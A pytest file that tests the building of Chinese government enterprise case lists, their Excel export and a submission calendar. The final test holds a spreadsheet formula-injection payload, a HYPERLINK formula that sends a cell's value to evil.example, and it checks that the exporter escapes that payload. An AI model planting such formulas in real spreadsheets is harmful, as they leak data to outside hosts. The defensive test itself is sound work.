"""The plan's lists and calendar on a date, and their Excel read back with openpyxl."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from geo.caselists import build_list, build_lists, calendar_report, write_list_xlsx
from geo.cases import STATE_COLUMNS
from geo.errors import InvalidQueryError
from layers.casework import calendar_spec


def _state(rows: list[dict]) -> pd.DataFrame:
    base = {c: "" for c in STATE_COLUMNS}
    base |= {"overdue": False, "exited": False, "exited_on": None, "capacity": float("nan"),
             "days_overdue": pd.NA, "due": None, "deadline": None, "extension_deadline": None,
             "status_date": None, "opened_on": date(2019, 4, 1)}
    df = pd.DataFrame([base | r for r in rows])
    return df[list(STATE_COLUMNS)]


STATE = _state([
    {"case_id": 1, "name": "甲", "status": "rectifying", "dimensions": "environment",
     "departments": "省生态环境厅", "rule_ids": "coal_boiler_conversion_pearl_cities",
     "overdue": True, "days_overdue": 3, "due": date(2019, 6, 27)},
    {"case_id": 2, "name": "乙", "status": "shut_down", "dimensions": "technology",
     "departments": "省工业和信息化厅、省发展改革委、省能源局", "exited": True,
     "exited_on": date(2019, 5, 1), "equipment_action": "sealed", "capacity": 6e5,
     "capacity_unit": "平方米/年", "documents": '["封存记录", "验收意见"]'},
    {"case_id": 3, "name": "丙", "status": "closed", "dimensions": "environment",
     "departments": "省生态环境厅", "exited": True, "exited_on": date(2019, 6, 1)},
    {"case_id": 4, "name": "丁", "status": "accepted", "dimensions": "environment",
     "departments": "省生态环境厅", "rule_ids": "coal_boiler_conversion_guangzhou_below_65tph"},
    {"case_id": 5, "name": "戊", "status": "dismissed", "dimensions": "environment",
     "departments": "省生态环境厅"},
])
NO_SAMPLES = pd.DataFrame(columns=["uscc", "name", "pollutant", "sampled_at", "outcome",
                                   "multiple", "standard"])


def _ids(tables, sheet: int = 0) -> list[int]:
    return list(list(tables.sheets.values())[sheet]["case_id"])


def test_each_list_selects_what_the_plan_names() -> None:
    on = date(2019, 6, 30)
    assert _ids(build_list("task_list", STATE, NO_SAMPLES, on)) == [1, 2, 3, 4]  # not dismissed
    assert _ids(build_list("technology_exit", STATE, NO_SAMPLES, on)) == [2]
    assert _ids(build_list("rectification", STATE, NO_SAMPLES, on)) == [1]
    assert _ids(build_list("closed_after_rectification", STATE, NO_SAMPLES, on)) == [3]
    assert _ids(build_list("coal_boiler_exit", STATE, NO_SAMPLES, on)) == [4]
    dept = build_list("department_quarterly", STATE, NO_SAMPLES, on)
    assert set(dept.sheets) >= {"省生态环境厅", "省能源局", "省工业和信息化厅"}
    assert list(dept.sheets["省能源局"]["case_id"]) == [2]
    assert build_list("exceedance", STATE, NO_SAMPLES, on).count == 0


def test_unknown_list_names_the_known_ones() -> None:
    with pytest.raises(InvalidQueryError, match="expected one of task_list"):
        build_list("nope", STATE, NO_SAMPLES, date(2019, 6, 30))


def test_excel_has_chinese_headers_an_about_sheet_and_labels(tmp_path: Path) -> None:
    tables = build_list("technology_exit", STATE, NO_SAMPLES, date(2019, 12, 31))
    path = write_list_xlsx(tables, tmp_path / "公示.xlsx")
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == ["说明", "技术方面关停退出企业公示"]
    about = {r[0]: r[1] for r in book["说明"].iter_rows(min_row=2, max_row=7, values_only=True)}
    assert about["截至日期"] == "2019-12-31" and about["依据"] == "方案 三(四)"
    assert "2019年12月31日前" in about["依据原文"]
    rows = list(book["技术方面关停退出企业公示"].iter_rows(values_only=True))
    header = dict(zip(rows[0], rows[1], strict=True))
    assert header["企业名称"] == "乙" and header["设备处置"] == "封存"
    assert header["退出日期"] is not None and header["文书"] == "封存记录；验收意见"
    assert header["产能单位"] == "平方米/年"


def test_calendar_states_at_and_around_the_due_date() -> None:
    subs = pd.DataFrame({"item_id": ["q2_department_lists"] * 5,
                         "department": ["省发展改革委", "省生态环境厅", "省市场监管局",
                                        "省应急管理厅", "省能源局"],
                         "submitted_on": [date(2019, 6, 20)] * 4 + [date(2019, 7, 2)]})

    def state_of(on: date, item: str) -> tuple[str, str]:
        items = calendar_report(on, submissions=subs, state=STATE, judged=NO_SAMPLES)["items"]
        row = items.set_index("id").loc[item]
        return row["state"], row["missing"]

    soon = calendar_spec().due_soon_days
    assert state_of(date(2019, 6, 30) - pd.Timedelta(days=soon).to_pytimedelta(),
                    "q2_department_lists")[0] == "due_soon"
    assert state_of(date(2019, 6, 15), "q2_department_lists")[0] == "upcoming"
    assert state_of(date(2019, 6, 30), "q2_department_lists") == ("due_soon", "省能源局")
    assert state_of(date(2019, 7, 1), "q2_department_lists") == ("late", "省能源局")
    assert state_of(date(2019, 7, 2), "q2_department_lists") == ("submitted", "")


def test_report_counts_overdue_cases_per_department_and_list_sizes() -> None:
    rep = calendar_report(date(2019, 6, 30), submissions=pd.DataFrame(
        columns=["item_id", "department", "submitted_on"]), state=STATE, judged=NO_SAMPLES)
    assert rep["overdue"].to_dict("records") == [
        {"department": "省生态环境厅", "overdue": 1, "max_days_overdue": 3}]
    q2 = rep["items"].set_index("id").loc["q2_department_lists"]
    assert "不达标限期整改企业名单（1）" in q2["lists"]


def test_all_lists_build_on_an_empty_year() -> None:
    empty = STATE.iloc[0:0]
    lists = build_lists(empty, NO_SAMPLES, date(2019, 12, 31))
    assert set(lists) == set(calendar_spec().lists)
    assert all(t.count == 0 for t in lists.values())


def test_published_list_never_holds_a_formula(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
    state = STATE.copy()
    state.loc[state["case_id"] == 2, "name"] = hostile
    tables = build_list("technology_exit", state, NO_SAMPLES, date(2019, 12, 31))
    path = write_list_xlsx(tables, tmp_path / "公示.xlsx")
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + hostile in [c.value for c in cells]
